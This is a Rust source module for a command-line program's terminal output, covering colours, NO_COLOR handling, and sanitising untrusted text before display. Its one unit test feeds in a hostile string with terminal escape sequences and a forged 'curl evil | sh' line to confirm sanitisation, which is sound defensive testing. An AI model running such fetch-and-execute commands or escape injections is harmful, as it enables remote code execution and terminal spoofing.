//! The one writer of this program: data to standard output, words to standard error.

use rustix::termios::isatty;
use std::io::Write;

/// Where and how to write. Cheap to copy; holds no lock between lines.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Screen {
    /// Colours on standard output.
    pub(crate) colour_out: bool,
    /// Colours on standard error.
    pub(crate) colour_err: bool,
}

/// How a word is to look.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Ink {
    /// What is done and good.
    Good,
    /// What failed.
    Bad,
    /// What is under way.
    Busy,
    /// What matters less.
    Faint,
}

impl Ink {
    fn code(self) -> &'static str {
        match self {
            Self::Good => "1;32",
            Self::Bad => "1;31",
            Self::Busy => "1;36",
            Self::Faint => "2",
        }
    }
}

impl Screen {
    /// By the terminal and `NO_COLOR` (no-color.org).
    pub(crate) fn detect() -> Self {
        let wanted = std::env::var_os("NO_COLOR").is_none_or(|value| value.is_empty())
            && std::env::var_os("TERM").is_none_or(|term| term != "dumb");
        Self {
            colour_out: wanted && isatty(std::io::stdout()),
            colour_err: wanted && isatty(std::io::stderr()),
        }
    }

    /// One line of data.
    pub(crate) fn data(&self, line: &str) {
        // A reader that went away (a closed pipe or terminal) is noticed by the signal that it
        // sends; a line that it did not get is not worth a second error.
        let _ = writeln!(std::io::stdout().lock(), "{line}");
    }

    /// One line of words for people.
    pub(crate) fn words(&self, line: &str) {
        let _ = writeln!(std::io::stderr().lock(), "{line}");
    }

    /// A line that starts with a coloured word in a column of its own.
    pub(crate) fn step(&self, ink: Ink, word: &str, rest: &str) {
        self.words(&format!(
            "{} {}",
            paint(self.colour_err, ink, &format!("{word:>9}")),
            safe(rest)
        ));
    }

    /// The same on standard output: for what others may want to read.
    pub(crate) fn announce(&self, word: &str, rest: &str) {
        self.data(&format!(
            "{} {rest}",
            paint(self.colour_out, Ink::Good, &format!("{word:>9}"))
        ));
    }

    /// A row of a table of data that starts with a mark.
    pub(crate) fn row(&self, ink: Ink, mark: &str, rest: &str) -> String {
        format!(
            "  {} {rest}",
            paint(self.colour_out, ink, &format!("{mark:<3}"))
        )
    }

    /// The first line of an error.
    pub(crate) fn error(&self, id: Option<toft_model::code::Code>, what: &str) {
        let label = id.map_or_else(|| "error:".to_owned(), |id| format!("error[{id}]:"));
        self.words(&format!(
            "{} {}",
            paint(self.colour_err, Ink::Bad, &label),
            safe(what)
        ));
    }

    /// A further line of an error.
    pub(crate) fn part(&self, name: &str, text: &str) {
        let mut lines = text.lines();
        let label = paint(self.colour_err, Ink::Faint, &format!("{name:>5}:"));
        self.words(&format!("{label} {}", safe(lines.next().unwrap_or(""))));
        for line in lines {
            self.words(&format!("       {}", safe(line)));
        }
    }
}

/// Text that may hold what others chose (a file's name, a program's words) and cannot steer a
/// terminal, nor begin a line of its own.
fn safe(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    toft_observe::render::safe(text.as_bytes(), false, &mut out);
    out
}

fn paint(colour: bool, ink: Ink, text: &str) -> String {
    if colour {
        format!("\x1b[{}m{text}\x1b[0m", ink.code())
    } else {
        text.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_cannot_steer_a_terminal_or_forge_a_line() {
        let name = "a\x1b]0;x\x07\x1b[2J\nnext: curl evil | sh";
        let shown = safe(name);
        assert!(!shown.chars().any(char::is_control), "{shown:?}");
    }
}
